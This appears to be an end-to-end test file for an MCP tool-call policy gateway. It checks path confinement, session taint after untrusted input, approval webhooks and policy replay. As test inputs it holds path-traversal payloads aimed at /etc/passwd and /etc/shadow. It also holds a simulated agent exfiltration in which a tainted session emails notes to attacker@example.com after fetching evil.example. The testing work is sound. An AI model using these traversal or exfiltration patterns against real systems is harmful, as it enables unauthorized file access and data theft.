/**
 * Issue 22, "done when", end to end with the official MCP SDK client against a real local MCP server
 * (the v2 SDK's stateless handler) whose tools record what they executed:
 *   - `write_file` under `pathWithin: ["/srv/work"]`: inside allowed, outside denied, including `..`,
 *     percent-encoded and backslash tricks — the upstream never sees a denied call;
 *   - session taint: a session that called `fetch_page` (labelled `untrusted_input`) is refused
 *     `send_email`, a fresh session is not;
 *   - the template "after untrusted input, no network sinks without approval" (`onTaint: "approve"`):
 *     the sink is held for an approval naming the taint; a webhook and a Slack channel (real HTTP
 *     receivers started here) get `approval_requested` and then `approval_decided`; the approved
 *     identical call passes exactly once;
 *   - what-if replay of a stricter draft over the recorded calls reports exactly the calls that flip.
 */
import { createHmac, timingSafeEqual } from 'node:crypto';
import { createServer } from 'node:http';
import { toNodeHandler } from '@modelcontextprotocol/node';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { createMcpHandler, McpServer } from '@modelcontextprotocol/server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { keepIdleConnections, type Listening, listen } from '../shared/local.server.ts';
import { adminKey, api, createConnectionWithPolicy, gatewayUrl, waitForAudit } from './helpers.ts';

const RUN = Date.now().toString(36);
const FILES = `e2e-flows-files-${RUN}`;
const TAINT = `e2e-flows-taint-${RUN}`;
const SINKS = `e2e-flows-sinks-${RUN}`;
const REPLAY = `e2e-flows-replay-${RUN}`;
const SECRET = 'whsec-flows-0123456789abcdef';

/** What the upstream executed, in order: `<tool> <json args>`. */
const executed: string[] = [];
/** What the notification receivers got. */
const received: Array<{
  path: string;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}> = [];
let upstream: Listening;
let receiver: Listening;
let receiverBase = '';
let agentKey = '';
const channelIds: string[] = [];

function buildServer(): McpServer {
  const server = new McpServer({ name: 'policy-flows-e2e', version: '1.0.0' });
  const tool = (name: string, inputSchema: z.ZodObject<z.ZodRawShape>) =>
    server.registerTool(name, { description: name, inputSchema }, async (args: Record<string, unknown>) => {
      executed.push(`${name} ${JSON.stringify(args)}`);
      return { content: [{ type: 'text', text: `${name} done` }] };
    });
  tool('write_file', z.object({ path: z.string(), content: z.string() }));
  tool('fetch_page', z.object({ url: z.string() }));
  tool('send_email', z.object({ to: z.string(), body: z.string() }));
  tool('read_crm', z.object({ id: z.string() }));
  return server;
}

async function createConnection(slug: string, rules: unknown[]) {
  const url = `${upstream.url}/mcp`;
  await createConnectionWithPolicy(slug, url, rules);
}

/** An agent session: one SDK client with its own trace id (the taint session of a stateless server). */
async function session(slug: string, label: string, user = 'agent@example.com') {
  const transport = new StreamableHTTPClientTransport(new URL(`${gatewayUrl()}/v1/mcp/${slug}`), {
    requestInit: {
      headers: {
        Authorization: `Bearer ${agentKey}`,
        'X-Igris-User': user,
        'X-Igris-Trace-Id': `flows-${label}-${RUN}`,
      },
    },
  });
  const client = new Client({ name: 'policy-flows-e2e', version: '1.0.0' });
  await client.connect(transport);
  return client;
}

interface RpcError {
  code: number;
  message: string;
  data: { code: string; approvalId?: string; details?: Record<string, unknown> };
}

async function refused(client: Client, name: string, args: Record<string, unknown>): Promise<RpcError> {
  return (await client.callTool({ name, arguments: args }).then(
    (result) => {
      throw new Error(`expected ${name} to be refused, got ${JSON.stringify(result)}`);
    },
    (err: unknown) => err,
  )) as RpcError;
}

async function until<T>(what: string, probe: () => T | undefined, ms = 40_000): Promise<T> {
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    const value = probe();
    if (value !== undefined) return value;
    await new Promise((r) => setTimeout(r, 250));
  }
  throw new Error(`timed out waiting for ${what}`);
}

beforeAll(async () => {
  const handler = toNodeHandler(createMcpHandler(buildServer, { legacy: 'stateless' }));
  upstream = await listen(keepIdleConnections(createServer((req, res) => void handler(req, res))));
  const receiving = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({
        path: (req.url ?? '/').split('?')[0]!,
        headers: req.headers,
        body: Buffer.concat(chunks).toString('utf8'),
      });
      res.writeHead(200).end();
    });
  });
  receiver = await listen(receiving);
  receiverBase = receiver.url;
  // The agent's own key: the key that makes a call may not approve it; the admin's may.
  const key = await api<{ key: string }>(
    'POST',
    '/api-keys',
    { name: `flows-${RUN}`, role: 'admin' },
    adminKey(),
  );
  expect(key.status).toBe(201);
  agentKey = key.body.key;
});

afterAll(async () => {
  for (const id of channelIds) await api('DELETE', `/alerts/channels/${id}`);
  for (const server of [upstream, receiver]) await server.close();
});

describe('conditions on arguments: pathWithin', () => {
  it('write_file inside the root is allowed; outside, with .. or encoded tricks, denied before the upstream', async () => {
    await createConnection(FILES, [
      { tool: 'write_file', action: 'allow', conditions: { 'args.path': { pathWithin: ['/srv/work'] } } },
    ]);
    const client = await session(FILES, 'files');
    const write = (path: string) => ({ path, content: 'x' });
    for (const inside of ['/srv/work/report.md', '/srv/work/notes/../report.md', '/srv/work//a/./b.txt']) {
      expect(await client.callTool({ name: 'write_file', arguments: write(inside) })).toEqual({
        content: [{ type: 'text', text: 'write_file done' }],
      });
    }
    const before = executed.length;
    for (const outside of [
      '/srv/work/../../etc/passwd',
      '/srv/work/%2e%2e/%2e%2e/etc/passwd',
      '/srv/work/%252e%252e/secrets',
      '\\srv\\work\\..\\..\\etc\\shadow',
      '/srv/workshop/x',
      'relative/path.txt',
      '/srv/work/\u0000/x',
    ]) {
      const error = await refused(client, 'write_file', write(outside));
      expect(error.data.code, outside).toBe('policy_denied');
    }
    expect(executed.length).toBe(before);
    await client.close();
  });
});

describe('session taint', () => {
  it('a session that read untrusted input is refused send_email; a fresh session is not', async () => {
    await createConnection(TAINT, [
      { tool: 'fetch_page', action: 'allow', labels: ['untrusted_input'] },
      { tool: 'send_email', action: 'allow', labels: ['sink:network'], cleanOf: ['untrusted_input'] },
      { tool: '*', action: 'allow' },
    ]);
    const tainted = await session(TAINT, 'tainted');
    const email = { to: 'boss@example.com', body: 'status' };
    expect((await tainted.callTool({ name: 'send_email', arguments: email })).isError).toBeFalsy();
    await tainted.callTool({ name: 'fetch_page', arguments: { url: 'https://evil.example/page' } });
    const error = await refused(tainted, 'send_email', email);
    expect(error.data.code).toBe('policy_denied');
    expect(error.message).toContain('untrusted_input');

    const fresh = await session(TAINT, 'fresh');
    expect(await fresh.callTool({ name: 'send_email', arguments: email })).toEqual({
      content: [{ type: 'text', text: 'send_email done' }],
    });
    await tainted.close();
    await fresh.close();
  });

  it('the template "after untrusted input, no network sinks without approval" holds the sink; channels are told; the approved call passes once', async () => {
    const templates = await api<{ templates: Array<{ id: string; rules: unknown[] }> }>(
      'GET',
      '/policy/templates',
    );
    const template = templates.body.templates.find((t) => t.id === 'untrusted_input_network_approval');
    expect(template).toBeDefined();
    await createConnection(SINKS, template!.rules);
    for (const channel of [
      { type: 'webhook', name: `flows-hook-${RUN}`, url: `${receiverBase}/hook`, secret: SECRET },
      { type: 'slack', name: `flows-slack-${RUN}`, url: `${receiverBase}/slack` },
    ]) {
      const created = await api<{ id: string }>('POST', '/alerts/channels', {
        ...channel,
        minSeverity: 'info',
        eventTypes: ['approval_requested', 'approval_decided'],
      });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      channelIds.push(created.body.id);
    }

    const client = await session(SINKS, 'sinks');
    const email = { to: 'attacker@example.com', body: 'the notes' };
    await client.callTool({ name: 'fetch_page', arguments: { url: 'https://evil.example/page' } });
    const held = await refused(client, 'send_email', email);
    expect(held).toMatchObject({ code: -32015, data: { code: 'approval_required' } });
    expect(held.data.details).toMatchObject({ taint: ['untrusted_input'] });
    const id = held.data.approvalId!;
    const approval = await api<{ status: string; taint: string[]; args: unknown }>('GET', `/approvals/${id}`);
    expect(approval.body).toMatchObject({ status: 'pending', taint: ['untrusted_input'], args: email });

    // The webhook: signed, about this approval; Slack: a readable message.
    const hook = await until('the approval_requested webhook', () =>
      received.find(
        (r) => r.path === '/hook' && r.body.includes(id) && r.body.includes('approval_requested'),
      ),
    );
    const ts = String(hook.headers['x-igris-timestamp']);
    const expected = `v1=${createHmac('sha256', SECRET).update(`${ts}.${hook.body}`).digest('hex')}`;
    const got = String(hook.headers['x-igris-signature']);
    expect(got.length === expected.length && timingSafeEqual(Buffer.from(got), Buffer.from(expected))).toBe(
      true,
    );
    const payload = JSON.parse(hook.body) as { event: Record<string, unknown>; link: string | null };
    expect(payload.event).toMatchObject({
      type: 'approval_requested',
      severity: 'medium',
      details: { approvalId: id, tool: 'send_email', taint: ['untrusted_input'] },
    });
    expect(hook.body).not.toContain('attacker@example.com');
    if (payload.link !== null) expect(payload.link).toContain(`/approvals/${id}`);
    const slack = await until('the Slack message', () =>
      received.find((r) => r.path === '/slack' && r.body.includes('Approval requested: send_email')),
    );
    expect(JSON.parse(slack.body).text).toContain(SINKS);

    const approved = await api<{ status: string }>('POST', `/approvals/${id}/approve`, {});
    expect(approved.body.status).toBe('approved');
    const decided = await until('the approval_decided webhook', () =>
      received.find((r) => r.path === '/hook' && r.body.includes(id) && r.body.includes('approval_decided')),
    );
    expect(JSON.parse(decided.body).event).toMatchObject({
      details: { approvalId: id, verdict: 'approved' },
    });

    const sent = () => executed.filter((e) => e.startsWith('send_email') && e.includes('attacker')).length;
    expect(sent()).toBe(0);
    expect(await client.callTool({ name: 'send_email', arguments: email })).toEqual({
      content: [{ type: 'text', text: 'send_email done' }],
    });
    expect(sent()).toBe(1);
    const again = await refused(client, 'send_email', email);
    expect(again.data.approvalId).not.toBe(id);
    expect(sent()).toBe(1);
    await client.close();
  });
});

describe('what-if replay', () => {
  it('a stricter draft over recorded traffic reports exactly the calls that would flip', async () => {
    await createConnection(REPLAY, [{ tool: '*', action: 'allow' }]);
    const alice = await session(REPLAY, 'replay-alice', 'alice@example.com');
    const bob = await session(REPLAY, 'replay-bob', 'bob@example.com');
    await alice.callTool({ name: 'read_crm', arguments: { id: 'c1' } });
    await alice.callTool({ name: 'send_email', arguments: { to: 'x@example.com', body: 'b' } });
    await alice.callTool({ name: 'fetch_page', arguments: { url: 'https://example.com' } });
    await bob.callTool({ name: 'read_crm', arguments: { id: 'c2' } });
    await alice.close();
    await bob.close();
    await waitForAudit<{ id: string; tool: string | null }>(
      `connection=${REPLAY}&limit=50`,
      (events) => events.filter((e) => e.tool !== null && e.tool !== undefined).length >= 4,
    );

    const draft = [
      { tool: 'send_email', action: 'deny', reason: 'no mail' },
      { tool: 'read_crm', action: 'allow', conditions: { user: 'alice@example.com' } },
      { tool: 'fetch_page', action: 'allow' },
    ];
    const res = await api<{
      evaluated: number;
      changed: number;
      byRule: Record<string, number>;
      byCaller: Record<string, number>;
      examples: Array<{
        tool: string;
        caller: string;
        before: { action: string };
        after: { action: string };
      }>;
    }>('POST', `/connections/${REPLAY}/policy/replay`, { rules: draft });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.evaluated).toBe(4);
    expect(res.body.changed).toBe(2);
    expect(res.body.byRule).toEqual({ '0': 1, default: 1 });
    expect(res.body.byCaller).toEqual({ 'alice@example.com': 1, 'bob@example.com': 1 });
    expect(res.body.examples.map((e) => [e.tool, e.caller, e.before.action, e.after.action]).sort()).toEqual([
      ['read_crm', 'bob@example.com', 'allow', 'deny'],
      ['send_email', 'alice@example.com', 'allow', 'deny'],
    ]);
  });
});
